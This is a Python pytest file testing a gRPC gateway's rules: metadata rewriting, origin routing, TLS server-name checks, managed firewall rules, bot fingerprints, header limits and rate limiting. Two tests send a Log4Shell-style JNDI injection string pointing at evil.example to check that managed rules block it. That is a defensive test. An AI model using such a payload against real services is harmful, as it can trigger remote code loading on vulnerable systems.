"""What rules change of calls, and what they are told of clients: from the file to the origin, with grpcio."""

from __future__ import annotations

import grpc
import pytest

from tests.support.grpc_echo import Echo, Origin

ZONE = """\
[server]
listen = ["127.0.0.1:0"]
workers = 1

[[zone]]
name = "gw.test"
grpc = "on"
ssl = "{ssl}"
cert = {{ file = "{{cert}}", key = "{{key}}" }}
trust_store = "{{ca}}"
dns = [
  {{ name = "@", content = "127.0.0.1", proxied = true, origin_port = {port}, {tail} }},
  {{ name = "other", content = "127.0.0.1", proxied = true, origin_port = {other}, {tail} }},
]
{more}
"""


@pytest.fixture
def other(origin_leaf):
    with Origin(origin_leaf) as started:
        yield started


@pytest.fixture
def echo(gateway, origin, other, open_channel):
    """`echo(rules)`: a client of a zone with these rules, and a second origin as other.gw.test."""

    def start(more: str, ssl: str = "strict") -> Echo:
        text = ZONE.format(
            tail='origin_server_name = "origin.test"', port=origin.port, other=other.port, more=more, ssl=ssl
        )
        return Echo(open_channel(gateway(toml=text).address))

    return start


def rule(*lines: str) -> str:
    return "\n".join(["[[zone.rule]]", *lines, ""])


def refusal(call) -> tuple[str, str]:
    with pytest.raises(grpc.RpcError) as caught:
        call()
    return caught.value.code().name, caught.value.details()


def values(origin: Origin, name: str) -> list[str]:
    return [value for key, value in origin.metadata if key == name]


def test_metadata_is_set_added_and_removed(echo, origin):
    client = echo(
        rule(
            'phase = "transform"',
            "expression = 'grpc.method eq \"Unary\"'",
            'headers."x-set" = { operation = "set", value = "new" }',
            'headers."x-add" = { operation = "add", expression = "concat(grpc.method, \\"!\\")" }',
            'headers."x-gone" = { operation = "remove" }',
            'headers."x-address" = { operation = "set", expression = "ip.src" }',
            'headers."x-missing" = { operation = "set", expression = "http.request.headers[\\"x\\"][0]" }',
        )
    )
    sent = [("x-set", "old"), ("x-set", "older"), ("x-add", "first"), ("x-gone", "1"), ("x-missing", "stays")]
    client.unary(b"", metadata=sent, timeout=5)
    assert values(origin, "x-set") == ["new"]
    assert values(origin, "x-add") == ["first", "Unary!"]
    assert values(origin, "x-gone") == []
    assert values(origin, "x-address") == ["127.0.0.1"]
    assert values(origin, "x-missing") == ["stays"]


def test_another_record_serves_and_another_name_is_asked_for(echo, origin, other):
    client = echo(
        rule(
            'phase = "origin"',
            'expression = \'http.request.headers["x-to"][0] eq "other"\'',
            'route = { origin = "other", host = "inner.example" }',
        )
    )
    client.unary(b"", timeout=5)
    assert (origin.calls, other.calls) == (1, 0)
    client.unary(b"", metadata=[("x-to", "other")], timeout=5)
    assert (origin.calls, other.calls) == (1, 1)


def test_another_port(echo, origin, other):
    client = echo(
        rule(
            'phase = "origin"',
            'expression = \'http.request.headers["x-to"][0] eq "other"\'',
            f"route = {{ port = {other.port} }}",
        )
    )
    client.unary(b"", metadata=[("x-to", "other")], timeout=5)
    client.unary(b"", metadata=[("x-to", "else")], timeout=5)
    assert (origin.calls, other.calls) == (1, 1)


def test_another_server_name_is_asked_for_and_judged(echo, origin):
    client = echo(
        rule(
            'phase = "origin"',
            "expression = 'grpc.method eq \"Unary\"'",
            'route = { server_name = "wrong.example" }',
        )
    )
    code, why = refusal(lambda: client.unary(b"", timeout=5))
    assert code == "UNAVAILABLE"
    assert "certificate" in why
    assert list(client.chat(iter([b"x"]), timeout=5)) == [b"x"]


def test_another_mode_of_encryption(echo, origin):
    """The name is wrong, which strict judges and full does not."""
    wrong = rule('phase = "origin"', "expression = 'ssl'", 'route = { server_name = "wrong.example" }')
    lax = rule('phase = "config"', "expression = 'grpc.method eq \"Unary\"'", 'config = { ssl = "full" }')
    client = echo(wrong + lax)
    assert client.unary(b"x", timeout=5) == b"x"
    assert refusal(lambda: list(client.chat(iter([b"x"]), timeout=5)))[0] == "UNAVAILABLE"


def test_managed_rules_are_asked(echo, origin):
    client = echo("[zone.managed]\nenabled = true\n")
    assert client.unary(b"x", metadata=[("x-note", "a plain note")], timeout=5) == b"x"
    bad = [("x-note", "${jndi:ldap://evil.example/a}")]
    code, why = refusal(lambda: client.unary(b"x", metadata=bad, timeout=5))
    assert code == "PERMISSION_DENIED"
    assert "managed rule" in why
    assert origin.calls == 1


def test_a_managed_rule_may_be_off_or_spared(echo, origin):
    client = echo('[zone.managed]\nenabled = true\noverrides = { injection = "log", exploits = "log" }\n')
    bad = [("x-note", "${jndi:ldap://evil.example/a}")]
    assert client.unary(b"x", metadata=bad, timeout=5) == b"x"


def test_fingerprints_and_the_score_are_known(echo, origin):
    client = echo(
        rule(
            "expression = 'not (len(cf.bot_management.ja4) eq 36 and len(cf.bot_management.ja3_hash) eq 32 "
            "and cf.tls_client_hello_length gt 100 and cf.bot_management.score ge 90)'",
            'action = "block"',
        )
    )
    assert client.unary(b"x", timeout=5) == b"x"


def test_a_head_the_rules_have_no_room_for_is_denied(echo, origin):
    """Values that are computed fill the memory for them: what cannot be asked must not pass."""
    rules = ""
    for number in range(40):
        condition = f'any(concat(http.request.headers.values[*], "{number}")[*] eq "never")'
        rules += rule(f"expression = '{condition}'", 'action = "block"')
    client = echo(rules)
    assert client.unary(b"x", timeout=5) == b"x"
    large = [(f"x-{number}", "v" * 200) for number in range(100)]
    code, why = refusal(lambda: client.unary(b"x", metadata=large, timeout=5))
    assert (code, why) == ("RESOURCE_EXHAUSTED", "zone gw.test: the head has more than its rules can look at")


def test_rate_limits_answer_with_pushback(echo, origin):
    client = echo(
        rule(
            'phase = "ratelimit"',
            "expression = 'grpc.method eq \"Unary\"'",
            'action = "block"',
            'ratelimit = { characteristics = ["ip.src"], period = 60, requests_per_period = 3 }',
        )
    )
    for _ in range(3):
        client.unary(b"", timeout=5)
    with pytest.raises(grpc.RpcError) as caught:
        client.unary(b"", timeout=5)
    assert caught.value.code().name == "RESOURCE_EXHAUSTED"
    trailers = dict(caught.value.trailing_metadata())
    assert 0 < int(trailers["grpc-retry-pushback-ms"]) <= 60_000
    assert origin.calls == 3
